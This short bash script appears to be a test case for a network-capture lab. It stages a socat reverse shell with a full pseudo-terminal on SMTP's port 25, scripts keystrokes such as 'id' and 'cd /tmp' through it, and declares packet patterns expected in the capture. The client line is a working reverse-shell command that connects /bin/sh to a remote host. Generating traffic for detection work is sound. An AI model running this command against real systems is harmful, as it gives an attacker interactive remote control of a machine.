#!/bin/bash
# A reverse shell with a terminal of its own, on SMTP's port: socat both sides, each key goes over the wire and comes back.
# packages: socat python3-minimal
# ports: tcp/25
# expect: tcp.srcport==25 && tcp.len==1
# expect: tcp.dstport==25 && tcp.len==1

. "${0%/*}/../lib.sh"
serve /usr/bin/python3 /mnt/typist.py 'id\n' 'ls -l /homer\x7f\n' 'cd /tmp\n' 'echo still here\n' 'exit\n' -- \
    socat STDIO,raw,echo=0 TCP-LISTEN:25,reuseaddr
listening tcp 25
capture tcp
client socat EXEC:/bin/sh,pty,stderr,setsid,sigint,sane TCP:10.20.0.2:25
